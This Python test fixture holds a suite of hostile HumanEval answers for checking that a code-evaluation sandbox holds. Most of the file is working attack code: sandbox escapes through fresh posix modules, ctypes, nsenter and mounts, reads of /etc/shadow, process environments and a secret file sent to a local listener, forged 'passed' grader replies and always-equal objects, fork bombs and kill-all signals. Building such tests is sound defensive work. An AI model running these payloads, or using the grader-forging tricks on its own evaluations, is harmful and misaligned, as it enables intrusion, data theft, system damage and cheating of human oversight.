"""Hostile HumanEval answers: each tries to escape, leak or forge, then returns a wrong value.

Every program is a whole ``add(a, b)`` (the toy problem of the hostile suite) whose body
runs an attack and returns ``None``, so it can only score by cheating. ``{canary}`` is a
directory outside the sandbox that must not change, ``{secret_file}`` a 0600 file with a
secret, ``{port}`` a 127.0.0.1 listener (and
an abstract Unix socket ``oc-hostile-{marker}`` listens too), ``{marker}`` a word put in the command line of
every process an attack leaves behind, ``{he_path}`` the HumanEval data (with the
canonical solutions). ``DANGEROUS`` ones would harm the machine through the old
Python-level sandbox (killing every process, forking without bound) and are only run
against the bubblewrap sandbox.
"""
from __future__ import annotations

import textwrap

PRELUDE = '''\
import os, sys
CANARY, SECRET_FILE, PORT, MARK = {canary!r}, {secret_file!r}, {port}, {marker!r}
HE_PATH = {he_path!r}

def _posix():
    """A fresh posix module, whatever the sandbox patched in os."""
    try:
        import importlib.util
        spec = importlib.util.find_spec('posix')
        mod = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(mod)
        return mod
    except BaseException:
        return os

def _sh(cmd):
    """Run a shell command by any means available."""
    p = _posix()
    pid = p.fork()
    if pid == 0:
        try:
            p.execv('/bin/sh', ['sh', '-c', cmd])
        finally:
            p._exit(127)
    p.waitpid(pid, 0)

def _leak(data):
    """Every exfiltration channel: print, a file outside, the listener."""
    if isinstance(data, str):
        data = data.encode()
    print(data)
    try:
        import _io
        _io.open(CANARY + '/loot', 'ab').write(data)
    except BaseException as e:
        print(e)
    try:
        for m in ('socket', '_socket'):
            sys.modules.pop(m, None)
        import socket
        socket.create_connection(('127.0.0.1', PORT), timeout=1).sendall(data)
    except BaseException as e:
        print(e)
'''

ATTACKS: dict[str, str] = {
    'io_open_write': "import _io\n_io.open(CANARY + '/pwned_io', 'w').write('x')",
    'closure_open_write': '''\
import builtins
f = builtins.open
for cell in (getattr(f, '__closure__', None) or ()):
    if callable(cell.cell_contents):
        f = cell.cell_contents
f(CANARY + '/pwned_closure', 'w').write('x')''',
    'dir_fd_write': '''\
fd = os.open(CANARY, os.O_RDONLY)
os.close(os.open('pwned_dirfd', os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd))''',
    'supports_dir_fd_unlink': '''\
for f in list(os.supports_dir_fd):
    if getattr(f, '__name__', '') in ('unlink', 'remove'):
        f(CANARY + '/keep.txt')''',
    'supports_fd_chmod': '''\
for f in list(os.supports_fd) + list(os.supports_dir_fd):
    if getattr(f, '__name__', '') == 'chmod':
        f(CANARY + '/keep.txt', 0o777)''',
    'gc_original_open': '''\
import gc, io
for o in gc.get_objects():
    for cell in (getattr(o, '__closure__', None) or ()) if callable(o) else ():
        c = cell.cell_contents
        if c is io.open or getattr(c, '__name__', '') == 'open':
            try:
                c(CANARY + '/pwned_gc', 'w').write('x')
            except BaseException:
                pass''',
    'subprocess_after_pop': '''\
for m in ('subprocess', '_posixsubprocess', 'select', 'selectors'):
    sys.modules.pop(m, None)
import subprocess
subprocess.run(['sh', '-c', 'touch ' + CANARY + '/pwned_sub'])''',
    'ctypes_system': '''\
for m in ('ctypes', '_ctypes'):
    sys.modules.pop(m, None)
import ctypes
ctypes.CDLL(None).system(('touch ' + CANARY + '/pwned_ctypes').encode())''',
    'fresh_posix_system': "_posix().system('touch ' + CANARY + '/pwned_posix')",
    'execve_via_supports_fd': '''\
for f in list(os.supports_fd):
    if getattr(f, '__name__', '') == 'execve':
        f('/bin/sh', ['sh', '-c', 'touch ' + CANARY + '/pwned_execve'], {})''',
    'parent_environ': "_leak(open('/proc/%d/environ' % os.getppid(), 'rb').read())",
    'every_environ': '''\
for pid in os.listdir('/proc'):
    try:
        data = open('/proc/%s/environ' % pid, 'rb').read()
    except BaseException:
        continue
    if b'OC_SECRET' in data:
        _leak(data)''',
    'etc_shadow': "_leak(open('/etc/shadow').read())",
    'secret_file': '_leak(open(SECRET_FILE).read())',
    'canonical_solutions': '''\
import gzip
_leak(gzip.open(HE_PATH).read()[:4000])''',
    'nsenter_parent_net': '''\
code = "import socket; socket.create_connection(('127.0.0.1', %d)).sendall(b'nsenter')" % PORT
_sh('nsenter --net=/proc/%d/ns/net %s -c "%s"' % (os.getppid(), sys.executable, code))
_sh('nsenter -t 1 -n %s -c "%s"' % (sys.executable, code))''',
    'direct_socket': "_leak(b'direct')",
    'abstract_unix_socket': '''\
for m in ('socket', '_socket'):
    sys.modules.pop(m, None)
import socket
s = socket.socket(socket.AF_UNIX)
s.connect('\\0oc-hostile-' + MARK)
s.sendall(open('/proc/%d/environ' % os.getppid(), 'rb').read())''',
    'bind_mount_outside': "_sh('mkdir -p x && mount --bind ' + CANARY + ' x')",
    'setsid_double_fork': '''\
p = _posix()
if p.fork() == 0:
    p.setsid()
    if p.fork() == 0:
        p.execv('/bin/sh', ['sh', '-c', 'sleep 8; touch ' + CANARY + '/pwned_later # ' + MARK])
    p._exit(0)''',
    'signals_next_sample': '''\
p = _posix()
if p.fork() == 0:
    p.setsid()
    if p.fork() == 0:
        p.execv('/bin/sh', ['sh', '-c', 'while :; do pkill -9 -f oc-sandbox; sleep 0.05; done # ' + MARK])
    p._exit(0)''',
    'frame_walk_forge': '''\
import json
f, token, fds = sys._getframe(), None, []
while f is not None:
    for k, v in list(f.f_locals.items()):
        if k == 'token' and isinstance(v, str):
            token = v
        if 'fd' in k and isinstance(v, int):
            fds.append(v)
    f = f.f_back
line = (json.dumps({'token': token, 'status': 'passed', 'reason': ''}) + '\\n').encode()
for fd in fds + list(range(1, 30)):
    try:
        os.write(fd, line)
    except OSError:
        pass
os._exit(0)''',
    'forged_replies_on_every_fd': '''\
for fd in range(1, 30):
    try:
        os.write(fd, b'{"ready": true}\\n{"value": 3}\\n{"value": 0}\\n{"status": "passed"}\\n')
    except OSError:
        pass
os._exit(0)''',
    'report_pipe_flood': '''\
chunk = b'x' * (1 << 20)
for fd in range(3, 30):
    try:
        for _ in range(300):
            os.write(fd, chunk)
    except OSError:
        pass''',
    'stdout_passed_then_exit': '''\
print('{"status": "passed"}', flush=True)
os.write(1, b'passed\\n')
os.write(2, b'passed\\n')
os._exit(0)''',
    'evaluator_stdout': '''\
for fd in (1, 2):
    open('/proc/%d/fd/%d' % (os.getppid(), fd), 'w').write('HOSTILE ' + MARK)''',
    'memory_bomb': '''\
keep = []
while True:
    keep.append(' ' * (32 << 20))''',
    'huge_output': '''\
while True:
    print('spam' * 10000)''',
    'infinite_loop': 'while True:\n    pass',
    'sleep_forever': 'import time\ntime.sleep(1000)',
    'sys_exit': 'sys.exit(0)',
    'os_exit': 'os._exit(0)',
    'always_equal_object': '''\
class Yes:
    def __eq__(self, other):
        return True
    __hash__ = object.__hash__
return Yes()''',
    'int_subclass_always_equal': '''\
class Three(int):
    def __eq__(self, other):
        return True
    __hash__ = int.__hash__
return Three(0)''',
    'huge_reply': "return 'x' * (64 << 20)",
    'deeply_nested_reply': '''\
x = []
for _ in range(100000):
    x = [x]
return x''',
    'huge_int_reply': 'return 10 ** 100000',
    'tmp_fill': '''\
for i in range(20000):
    open('/tmp/fill%d' % i, 'w').write('x' * 4096)''',
    'root_fs_write': "open('/oc_hostile_fill', 'w').write('x' * (1 << 20))\nreturn 'wrote /'",
    'dev_shm_write': "open('/dev/shm/oc_hostile_' + MARK, 'w').write('x' * (1 << 20))",
    'thread_bomb': '''\
import threading, time
while True:
    threading.Thread(target=time.sleep, args=(100,), daemon=True).start()''',
    'nested_user_namespace': "_sh('unshare -Urn sh -c \"touch ' + CANARY + '/pwned_userns\"')",
    # dangerous through the old sandbox (root, Python-level guard): run only against bwrap
    'kill_parent': "_posix().kill(os.getppid(), 9)",
    'kill_everything': "_posix().kill(-1, 9)",
    'fork_bomb': '''\
p = _posix()
while True:
    try:
        p.fork()
    except OSError:
        pass''',
}
DANGEROUS = {'kill_parent', 'kill_everything', 'fork_bomb', 'signals_next_sample'}


def program(name: str, **values: object) -> str:
    """The whole answer for attack ``name``: ``def add(a, b):`` with the attack inside."""
    body = PRELUDE.format(**values) + ATTACKS[name] + '\nreturn None\n'
    return 'def add(a, b):\n' + textwrap.indent(body, '    ')
